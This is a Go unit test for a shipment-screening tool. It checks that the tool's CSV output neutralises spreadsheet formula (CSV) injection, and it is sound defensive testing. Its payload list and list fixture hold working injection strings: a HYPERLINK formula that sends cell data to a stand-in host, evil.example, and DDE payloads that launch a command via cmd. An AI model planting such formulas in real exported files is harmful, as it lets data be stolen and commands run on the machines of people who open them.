package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/apache/arrow/go/v17/arrow"
)

// TestScreenCSVNeutralisesFormulas screens shipments whose text carries
// spreadsheet formulas (CSV injection: a cell starting with = + - @, a tab
// or a carriage return runs when the file is opened) and reads the CSV back
// as a spreadsheet would: no text cell may start with one of them, numbers
// stay numbers, and the neutralised text still shows the original.
func TestScreenCSVNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	payloads := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Invoice")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	ids, names, goods := []any{}, []any{}, []any{}
	for i, p := range payloads {
		ids = append(ids, p)
		names = append(names, p)
		goods = append(goods, strings.Repeat(" ", i%2)+p) // Extract trims, pass-through does not
	}
	data := relParquet(t,
		relStrings("shipment_id", ids...),
		relStrings("consignee_name", names...),
		relStrings("goods_description", goods...),
		relStrings("=cmd|' /C calc'!A0", names...), // an extra column passes through, header included
		relColumn{arrow.Field{Name: "value_eur", Type: arrow.PrimitiveTypes.Float64}, []any{-120.5, 1.0, 2.0, 3.0, 4.0, 5.0}},
	)
	in := relWrite(t, filepath.Join(dir, "s.parquet"), data)
	// A list entry named like a payload, so hits carry formulas in
	// entry_name, matched_name and query_name as well.
	list := relWrite(t, filepath.Join(dir, "list.csv"), []byte("id,name,aliases,type,countries,programs,notes\n"+
		"=IH-1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Invoice\"\")\",,organisation,RU,@PROGRAM,=notes\n"))
	out := filepath.Join(dir, "flagged.csv")
	e, _, stderr := relEnv()
	if err := run(t.Context(), e, []string{"screen", "--quiet", "--all", "--shipments", in, "--list", list, "--out", out}); err != nil {
		t.Fatalf("%v\n%s", err, stderr)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(payloads)+1 {
		t.Fatalf("%d records, want header and %d rows", len(recs), len(payloads))
	}
	header := recs[0]
	flaggedSeen := false
	for r, rec := range recs {
		for c, cell := range rec {
			if cell == "" {
				continue
			}
			if header[c] == "value_eur" || header[c] == "risk_score" {
				continue // numbers: "-120.5" is a value, not a formula
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d column %q: cell %q would run as a formula", r, header[c], cell)
			}
			if r > 0 && header[c] == "flagged" && cell == "true" {
				flaggedSeen = true
			}
		}
	}
	if !flaggedSeen {
		t.Error("the payload-named list entry flagged nothing: the hits columns were not exercised")
	}
	if got := recs[1][0]; got != "'"+payloads[0] {
		t.Errorf("shipment_id %q, want the original behind an apostrophe", got)
	}
	if got := recs[1][slices.Index(header, "value_eur")]; got != "-120.5" {
		t.Errorf("value_eur %q, want -120.5 untouched", got)
	}
}
